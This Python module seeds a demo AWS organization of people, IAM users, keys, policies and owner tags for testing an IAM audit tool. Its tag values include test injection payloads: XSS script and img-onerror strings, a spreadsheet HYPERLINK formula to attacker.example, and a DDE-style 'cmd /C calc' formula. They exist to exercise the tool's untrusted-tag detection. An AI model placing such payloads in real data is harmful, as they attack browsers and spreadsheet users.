"""Who and what the demo organization contains: people, and the IAM users of each account.

Everything here is plain data with ages in whole days relative to "now", so one catalog
serves the demo, the tests and the benchmarks at any date. The situation names a user
plants are derived from its spec (:func:`user_situations`) rather than written by hand,
so the record the tests check can never drift from what was actually seeded.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace

from .policies import (
    ADMIN_STAR,
    ADMIN_STAR_COLON_STAR,
    AWS_ADMINISTRATOR_ACCESS_ARN,
    AWS_QUARANTINE_ARN,
    CI_RUNNER_CIDRS,
    GROUPS,
    NOT_ACTION_ADMIN,
    NOT_ACTION_POWER_USER,
    PASS_ROLE_RUN_INSTANCES,
    PolicySpec,
    bucket,
    deny_outside,
    partial_source,
    s3_read,
    s3_write,
    service_access,
    vpce_only,
)

DOMAIN = "example.com"
OWNER_TAG_KEYS = ("owner", "Owner", "owner-email", "OwnerEmail")
ACCOUNT_KINDS = ("prod", "staging", "dev", "legacy")

# Thresholds used only to *name* what was planted; the rules engine has its own settings.
ROTATION_MAX_DAYS = 90
ROTATION_DUE_DAYS = 76
UNUSED_DAYS = 45
FRESH_DAYS = 14
RECENT_USE_DAYS = 7


@dataclass(frozen=True)
class Person:
    """A person as the people CSV describes them (see ``DemoPerson`` in seed.py)."""

    handle: str
    name: str
    manager: str = ""
    roles: tuple[str, ...] = ()
    active: bool = True

    @property
    def email(self) -> str:
        return f"{self.name.lower().replace(' ', '.')}@{DOMAIN}"


PEOPLE = (
    Person("priya", "Priya Raman", roles=("security",)),
    Person("marcus", "Marcus Lee", roles=("manager",)),
    Person("elena", "Elena Petrova", roles=("manager",)),
    Person("alice", "Alice Nguyen", "marcus"),
    Person("bob", "Bob Okafor", "marcus"),
    Person("chen", "Chen Wei", "marcus"),
    Person("dana", "Dana Kowalski", "marcus"),
    Person("emil", "Emil Johansson", "elena"),
    Person("fatima", "Fatima Haddad", "elena"),
    Person("gabriel", "Gabriel Santos", "elena"),
    Person("hana", "Hana Suzuki", "elena"),
    Person("ivan", "Ivan Moreau", "marcus", active=False),
)
PEOPLE_BY_HANDLE = {person.handle: person for person in PEOPLE}


@dataclass(frozen=True)
class KeySpec:
    """One access key: age in days, and days since last use (None: never used)."""

    age_days: int
    last_used_days: int | None = None
    status: str = "Active"
    service: str = "s3"
    region: str = "eu-west-1"


@dataclass(frozen=True)
class UserSpec:
    """One IAM user and everything hanging off it; keys are listed oldest first."""

    name: str
    keys: tuple[KeySpec, ...] = ()
    path: str = "/"
    tags: tuple[tuple[str, str], ...] = ()
    inline: tuple[PolicySpec, ...] = ()
    managed: tuple[str, ...] = ()
    groups: tuple[str, ...] = ()
    console: bool = False
    deleted_key: bool = False


def key(age, used=None, *, status="Active", service="s3", region="eu-west-1") -> KeySpec:
    return KeySpec(age, used, status, service, region)


def old_inactive(age: int) -> KeySpec:
    """The previous key of a rotation, disabled but not yet deleted."""
    return KeySpec(age, age - 10, "Inactive")


def owner(who: str, tag_key: str = "owner", *, mixed_case: bool = False) -> tuple[str, str]:
    """An owner tag naming a person by handle, or any e-mail given literally."""
    email = who if "@" in who else PEOPLE_BY_HANDLE[who].email
    if mixed_case:
        local, domain = email.split("@")
        email = f"{local.title()}@{domain.upper()}"
    return (tag_key, email)


XSS_TAG = ("team", "<script>alert(1)</script>")
FORMULA_TAG = ("cost-center", '=HYPERLINK("http://attacker.example/x","Open report")')
AT_FORMULA_TAG = ("team", "@SUM(1+1)*cmd|' /C calc'!A0")
GHOST = "former.contractor@example.com"
ADMIN = AWS_ADMINISTRATOR_ACCESS_ARN
QUARANTINE = AWS_QUARANTINE_ARN
OBS = "observability-read"
DEV = "developer-read"
CI = "ci-deploy"


def prod(e: str) -> list[UserSpec]:
    u = UserSpec
    return [
        u(f"ci-deploy-{e}", (key(200, 1, service="cloudformation", region="us-east-1"),), "/ci/",
          (owner("chen"), ("team", "platform")),
          (deny_outside("deny-outside-ci", CI_RUNNER_CIDRS),), (CI,)),
        u("svc-datadog", (old_inactive(400), key(80, 0, service="cloudwatch", region="us-east-1")),
          "/integrations/", (owner("dana", "Owner"), ("vendor", "Datadog")),
          (deny_outside("datadog-sources", ("192.0.2.0/25",), if_exists=True),), (OBS,)),
        u("backup-onprem", (key(120, 1), key(30, 0)), "/onprem/", (owner("emil", "owner-email"),),
          (vpce_only("backup-via-endpoint", ["s3:PutObject"], bucket(f"backups-{e}")),)),
        u(f"terraform-{e}", (key(40, 0, service="sts"),), "/ci/",
          (owner("gabriel", "OwnerEmail", mixed_case=True),), managed=(ADMIN,)),
        u("svc-pagerduty", (old_inactive(300), key(90, 2, service="sns")), "/integrations/",
          (owner("fatima"),), managed=(OBS,)),
        u("svc-snowflake-export", (old_inactive(181), key(91, 3)), "/integrations/",
          (owner("hana"),), (s3_read("read-exports", f"exports-{e}"),)),
        u("reporting-etl", (key(60),), tags=(owner(GHOST),),
          inline=(s3_read("read-reports", f"reports-{e}"),)),
        u("svc-legacy-crm", (key(300, 100, service="dynamodb"),), tags=(owner("ivan"),),
          inline=(service_access("crm-table", "dynamodb:GetItem", "dynamodb:PutItem"),)),
        u("app-payments-batch", (old_inactive(120), key(30, 0)), tags=(owner("bob"),),
          inline=(vpce_only("payments-via-endpoint", ["s3:GetObject"], bucket(f"payments-{e}")),)),
        u("ops-breakglass", (key(150, 140),), tags=(owner("marcus"),), groups=("break-glass",)),
        u("alice.nguyen", (key(10, 1),), tags=(owner("alice"),), groups=("developers",),
          console=True),
        u("svc-sendgrid", (key(5, 0, service="ses"),), "/integrations/", (XSS_TAG,),
          (service_access("send-mail", "ses:SendEmail", "ses:SendRawEmail"),), deleted_key=True),
        u("monitoring-agent", (old_inactive(400), key(20, 0, service="cloudwatch")),
          managed=(OBS,)),
        u("readonly-auditor", tags=(owner("priya"),), groups=("developers",), console=True),
        u("svc-github-actions", (key(45, 0),), "/ci/", (owner("chen"), FORMULA_TAG),
          (partial_source("artifacts-upload", f"artifacts-{e}"),)),
        # AWS found its key in a public repository and quarantined the user.
        u("svc-image-uploader", (key(35, 0),), "/integrations/", (owner("fatima"),),
          (s3_write("image-uploads", f"images-{e}"),), (QUARANTINE,)),
    ]


def staging(e: str) -> list[UserSpec]:
    u = UserSpec
    return [
        u(f"ci-deploy-{e}", (old_inactive(190), key(95, 0, service="cloudformation")), "/ci/",
          (owner("chen"),), managed=(CI,)),
        u("svc-datadog", (key(78, 0, service="cloudwatch", region="us-east-1"),), "/integrations/",
          (owner("dana", "Owner"),), (deny_outside("deny-outside-office"),), (OBS,)),
        u("qa-automation", (old_inactive(150), key(33, 0)), "/ci/", (owner("gabriel"),),
          (ADMIN_STAR_COLON_STAR,)),
        u("loadtest-runner", (key(70, 5), key(12, 1)), "/ci/", (owner("bob"),),
          (NOT_ACTION_POWER_USER,)),
        u("svc-sentry", (old_inactive(140), key(50, 0)), "/integrations/",
          (owner("hana", "Owner"),), (partial_source("sentry-uploads", f"sentry-{e}"),)),
        u("bob.okafor", (key(130, 20),), tags=(owner("bob"),), groups=("developers",),
          console=True),
        u("db-snapshot-export", (old_inactive(170), key(85, 0)), "/onprem/",
          (owner("emil", "owner-email"),),
          (vpce_only("snapshots-via-endpoint", ["s3:PutObject"], bucket(f"snapshots-{e}")),)),
        u("svc-feature-flags", (key(60),), "/integrations/", (owner("fatima"),),
          (service_access("flags-params", "ssm:GetParameter", "ssm:GetParametersByPath"),)),
        u("tmp-migration-2023", (key(250, 200),),
          inline=(s3_write("migration-bucket", f"migration-{e}"),)),
        u(f"ops-breakglass-{e}", (key(20),), tags=(owner("marcus"),), groups=("platform-admins",)),
        u("svc-slack-notifier", (key(90, 1, service="sns"),), "/integrations/", (owner("ivan"),),
          (service_access("notify", "sns:Publish"),)),
        u("svc-twilio", (old_inactive(181), key(91, 1, service="sns")), "/integrations/",
          (owner("nobody@example.com"),), (service_access("sms", "sns:Publish"),)),
        u(f"terraform-{e}", (key(10, 0, service="sts"),), "/ci/",
          (owner("gabriel", "OwnerEmail", mixed_case=True),), managed=(ADMIN,)),
        u("readonly-analyst", tags=(owner("hana"),), groups=("developers",), console=True),
        u("svc-statuspage", (key(7, 1),), "/integrations/", (owner("dana"),),
          (service_access("status-read", "cloudwatch:GetMetricData"),), deleted_key=True),
        u("batch-launcher", (key(20, 1, service="ec2"),), "/ci/", (owner("bob"),),
          (PASS_ROLE_RUN_INSTANCES,)),
    ]


def dev(e: str) -> list[UserSpec]:
    u = UserSpec
    return [
        u("alice.nguyen", (key(25, 0),), tags=(owner("alice"),),
          groups=("developers", "platform-admins"), console=True),
        u("chen.wei", (key(200, 2),), tags=(owner("chen"),), groups=("developers",), console=True),
        u("sandbox-admin", (old_inactive(150), key(60)), tags=(owner("gabriel"),),
          inline=(ADMIN_STAR,)),
        u(f"ci-deploy-{e}", (old_inactive(100), key(10, 0, service="cloudformation")), "/ci/",
          (owner("chen"),), managed=(CI,)),
        u("local-dev-tools", (key(80, 3), key(3, 0)), tags=(owner("emil"),), managed=(DEV,)),
        u("svc-mock-payments", (old_inactive(390), key(300, 150)), "/integrations/",
          (owner("ivan"),), (s3_read("mock-fixtures", f"fixtures-{e}"),)),
        u("hackathon-bot", (key(400, 399),), tags=(("team", '<img src=x onerror="alert(2)">'),),
          inline=(s3_write("hackathon-bucket", f"hackathon-{e}"),)),
        u(f"svc-github-actions-{e}", (key(88, 0), key(30, 0)), "/ci/", (owner("bob"),),
          (partial_source("dev-artifacts", f"artifacts-{e}"),)),
        u("data-science-notebook", (old_inactive(140), key(45, 4)), tags=(owner("hana"),),
          inline=(NOT_ACTION_POWER_USER,)),
        u("dana.kowalski", tags=(owner("dana"),), groups=("developers",), console=True),
        u("svc-openai-proxy", (key(14, 0),), "/integrations/",
          (owner("fatima", "Owner"), AT_FORMULA_TAG),
          (service_access("proxy-secrets", "secretsmanager:GetSecretValue"),)),
        u("intern-2022", (KeySpec(500, 480, "Inactive"),), groups=("developers",)),
        u("dev-db-seeder", (old_inactive(180), key(90, 0, service="dynamodb")),
          tags=(owner("chen"),),
          inline=(service_access("seed-tables", "dynamodb:BatchWriteItem"),)),
        u("svc-figma-export", (key(60),), "/integrations/", (owner("j.doe@contractor.example"),),
          (s3_write("design-exports", f"design-{e}"),)),
        u("test-user-1", deleted_key=True),
        # Quarantined by AWS, its key already deactivated: an inactive key raises nothing.
        u("svc-leaked-webhook", (KeySpec(40, 30, "Inactive"),), "/integrations/",
          (owner("emil"),), managed=(QUARANTINE,)),
    ]


def legacy(e: str) -> list[UserSpec]:
    u = UserSpec
    return [
        u("legacy-ftp", (key(1500, 0),), "/onprem/", (owner("ivan"),),
          (s3_write("ftp-drop", f"ftp-{e}"),)),
        u("backup-tape", (key(700, 400),), "/onprem/",
          inline=(s3_write("tape-vault", f"tape-{e}"),)),
        u("svc-old-crm", (key(1200, 2), key(900, 2)), tags=(owner(GHOST),), inline=(ADMIN_STAR,)),
        u("legacy-admin", (key(1000),), managed=(ADMIN,)),
        u("nagios-monitor", (key(365, 1, service="cloudwatch"),), tags=(owner("dana", "Owner"),),
          inline=(deny_outside("nagios-sources", if_exists=True),), managed=(OBS,)),
        u("jenkins-legacy", (old_inactive(181), key(91, 0, service="cloudformation")), "/ci/",
          (owner("chen"),), (deny_outside("deny-outside-ci", CI_RUNNER_CIDRS),), (CI,)),
        u("svc-mailer", (key(80, 1, service="ses"),), tags=(owner("emil", "owner-email"),),
          inline=(service_access("send-mail", "ses:SendRawEmail"),)),
        u("report-cron", (key(60),), tags=(owner("hana"),),
          inline=(s3_read("reports", f"reports-{e}"),)),
        u("bob.okafor", (key(600, 300),), tags=(owner("bob"),), groups=("developers",),
          console=True),
        u("svc-ldap-sync", (old_inactive(500), key(250, 0)), tags=(owner("marcus"),),
          groups=("platform-admins",)),
        u("edi-partner-gateway", (old_inactive(100), key(10, 0)), "/integrations/",
          (owner("fatima"),),
          (vpce_only("edi-via-endpoint", ["s3:GetObject", "s3:PutObject"], bucket(f"edi-{e}")),)),
        u("legacy-batch-01", (old_inactive(380), key(200, 30)), tags=(owner("gabriel"),),
          inline=(NOT_ACTION_POWER_USER,)),
        u("retired-svc"),
        u("svc-fax-gateway", (old_inactive(270), key(90, 0)), "/integrations/",
          (owner("alice", "OwnerEmail", mixed_case=True),),
          (service_access("fax-queue", "sqs:*"),)),
        u("sftp-partner-acme", (key(150, 1),), "/integrations/", (owner("alice"),),
          (partial_source("acme-exchange", f"acme-{e}"), ADMIN_STAR_COLON_STAR)),
        u("helpdesk-automation", (key(60, 2, service="iam"),), tags=(owner("dana"),),
          groups=("iam-operators",)),
        u("ops-robot", (key(400, 1),), tags=(owner("marcus"),), inline=(NOT_ACTION_ADMIN,)),
    ]


CATALOGS: dict[str, Callable[[str], list[UserSpec]]] = {
    "prod": prod,
    "staging": staging,
    "dev": dev,
    "legacy": legacy,
}


def account_users(kind: str, account_name: str, users: int | None) -> list[UserSpec]:
    """The users of one account: the curated set, or ``users`` of them cycling through it.

    Copies after the first round get a numeric suffix and keep their template's ages,
    tags and policies, so a scaled account has the same mix of situations.
    """
    templates = CATALOGS[kind](account_name)
    if users is None:
        return templates
    result = []
    for index in range(users):
        template = templates[index % len(templates)]
        copy = index // len(templates)
        name = template.name if copy == 0 else f"{template.name}-{copy:03d}"
        result.append(replace(template, name=name))
    return result


def _owner_situation(spec: UserSpec) -> str:
    emails = [value.lower() for tag, value in spec.tags if tag in OWNER_TAG_KEYS]
    if not emails:
        return "no_owner_tag"
    people = {person.email: person for person in PEOPLE}
    if any(email in people and people[email].active for email in emails):
        return "owner_tag_known"
    if any(email in people for email in emails):
        return "owner_tag_inactive"
    return "owner_tag_unknown"


def _key_situations(spec: UserSpec) -> set[str]:
    found = set()
    active = [k for k in spec.keys if k.status == "Active"]
    if len(active) >= 2:
        found.add("multiple_active_keys")
    if len(active) < len(spec.keys):
        found.add("inactive_key")
    if active and spec.console:
        found.add("human_user_key")
    for k in active:
        if k.age_days > ROTATION_MAX_DAYS:
            found.add("rotation_overdue")
        elif k.age_days > ROTATION_DUE_DAYS:
            found.add("rotation_due")
        if k.age_days in (90, 91):
            found.add(f"rotation_boundary_{k.age_days}")
        if k.age_days <= FRESH_DAYS:
            found.add("fresh_key")
        if k.last_used_days is None:
            if k.age_days > UNUSED_DAYS:
                found.add("unused_never")
        elif k.last_used_days > UNUSED_DAYS:
            found.add("unused_stale")
        elif k.last_used_days <= RECENT_USE_DAYS:
            found.add("used_recently")
    return found


def user_situations(spec: UserSpec) -> set[str]:
    """Every situation name this user plants (policies, keys, ownership, odd tags)."""
    found = _key_situations(spec) | {_owner_situation(spec)}
    for policy in spec.inline:
        found.update(policy.situations)
    if ADMIN in spec.managed:
        found.add("admin_managed")
    if QUARANTINE in spec.managed:
        found.add("key_exposed")
    groups = {group.name: group for group in GROUPS}
    for name in spec.groups:
        found.update(groups[name].situations)
    if any(value.startswith(("=", "+", "-", "@")) or "<" in value for _, value in spec.tags):
        found.add("untrusted_tag")
    if not spec.keys:
        found.add("no_keys")
    if spec.deleted_key:
        found.add("deleted_key")
    if spec.path != "/":
        found.add("non_root_path")
    return found
